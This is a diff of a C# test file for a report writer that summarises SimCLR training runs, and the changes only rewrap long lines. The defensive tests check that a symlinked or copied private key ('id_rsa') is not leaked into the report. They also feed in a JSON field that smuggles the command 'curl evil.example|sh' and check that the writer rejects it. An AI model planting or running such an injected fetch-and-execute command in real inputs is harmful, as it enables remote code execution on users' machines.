@@ -49,10 +49,12 @@ public sealed class RunReportTests
 
     [Theory]
     [InlineData("null", "")]
-    [InlineData("{\"raw_pixels\":0.3}", " The same was done with the bare pixels; what SimCLR has above that is what it learned.")]
+    [InlineData("{\"raw_pixels\":0.3}",
+        " The same was done with the bare pixels; what SimCLR has above that is what it learned.")]
     [InlineData("{\"random_encoder\":0.3}",
         " The same was done with an encoder that was never trained; what SimCLR has above that is what it learned.")]
-    [InlineData("{\"raw_pixels\":0.3,\"random_encoder\":0.3}", " The same was done with an encoder that was never trained and with "
+    [InlineData("{\"raw_pixels\":0.3,\"random_encoder\":0.3}",
+        " The same was done with an encoder that was never trained and with "
         + "the bare pixels; what SimCLR has above them is what it learned.")]
     public void The_story_tells_of_the_baselines_that_were_measured(string baselines, string sentence)
     {
@@ -84,7 +86,8 @@ public sealed class RunReportTests
         {
             File.Delete(run.File("views.png"));
             File.CreateSymbolicLink(run.File("views.png"), target);
-            Assert.DoesNotContain(Convert.ToBase64String(File.ReadAllBytes(target))[..24], File.ReadAllText(RunReport.Write(run.Path)));
+            Assert.DoesNotContain(Convert.ToBase64String(File.ReadAllBytes(target))[..24],
+                File.ReadAllText(RunReport.Write(run.Path)));
         }
         File.Delete(run.File("views.png"));
         File.Copy(elsewhere.File("id_rsa"), run.File("views.png"));
@@ -103,7 +106,9 @@ public sealed class RunReportTests
     {
         using var run = new SampleRun();
         File.WriteAllText(run.File("evaluation-finetune.json"),
-            """{"protocol":"finetune; curl evil.example|sh #","top1":0.5,"top5":1,"labels":10,"fraction":0.1,"seed":1,"test_count":9}""");
+            """
+            {"protocol":"finetune; curl evil.example|sh #","top1":0.5,"top5":1,"labels":10,"fraction":0.1,"seed":1,"test_count":9}
+            """);
         Assert.Contains("is damaged", Assert.Throws<RunFolderException>(() => RunReport.Write(run.Path)).Message);
     }
 
